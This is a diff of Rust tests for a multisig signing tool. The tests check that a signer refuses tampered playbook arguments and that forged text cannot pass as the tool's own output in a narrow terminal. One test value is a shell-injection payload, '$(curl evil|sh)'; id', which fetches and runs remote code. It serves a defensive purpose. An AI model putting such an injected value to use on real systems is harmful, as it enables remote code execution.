@@ -7,7 +7,7 @@ use breakglass::playbook::PlaybookDigest;
 use breakglass::safe::{Nonce, Operation, SafeId, SafeTx};
 use serde_json::{Value, json};
 
-use crate::stage::{Ceremony, Desk, key};
+use crate::stage::{Ceremony, Desk, Terminal, key};
 use crate::steps::{
     acceptance, accepting, path, propose, read_json, refused, refused_without_a_trace, run, sign, try_sign,
     two_of_three, with_key,
@@ -256,6 +256,41 @@ fn an_open_argument_is_said_by_every_signer() {
     bob_refuses(bob, &proposal, &[], 4, &["not-your-arguments", "target = vault", "--set target=vault"]);
     let file = hand_over(bob, &proposal);
     sign(bob, &[&file, "--set", "target=vault"]);
+    // What is copied from the screen is one word for a shell, whatever a stranger wrote.
+    let evil = changed(&proposal, "/playbook/arguments/target", &json!("$(curl evil|sh)'; id"));
+    bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
+}
+
+/// In a narrow terminal a long text would be broken by the terminal, and its rest would look like a line of ours.
+#[test]
+fn in_a_narrow_terminal_no_text_of_a_strangers_begins_a_line() {
+    let mut ceremony = two_of_three();
+    ceremony.add_to_council("\n[levers.any]\nplaybook = \"pause/oz-pausable\"\nsafe = \"guardian\"\n");
+    let [alice, bob, _] = &ceremony.desks[..] else { unreachable!() };
+    let made = alice.run(&["--json", "pause", "any", "--set", "target=vault"]).ended(0).json();
+    let proposal = read_json(&alice.path(made["proposal"].as_str().unwrap()));
+    let forged = "✓ matches your playbook ".repeat(20);
+    let evil = changed(&proposal, "/playbook/arguments/target", &json!(forged));
+    let words = with_key(bob, &["sign", &hand_over(bob, &evil)]);
+    let words: Vec<&str> = words.iter().map(String::as_str).collect();
+    let run = Terminal::of_width(40, &mut bob.command(&words)).ended(4).says("not-your-arguments");
+    let lines = run.stdout.split(['\r', '\n']).map(console_width);
+    assert!(lines.clone().all(|width| width <= 40), "{}", run.stdout);
+    assert!(lines.max() > Some(30));
+}
+
+/// How many columns of a screen a line takes, without its colours.
+fn console_width(line: &str) -> usize {
+    let mut width = 0;
+    let mut in_escape = false;
+    for c in line.chars() {
+        match c {
+            '\u{1b}' => in_escape = true,
+            _ if in_escape => in_escape = !c.is_ascii_alphabetic(),
+            _ => width += 1,
+        }
+    }
+    width
 }
 
 /// One desk's council file points the lever elsewhere: its owner is told, whoever's file is the altered one.
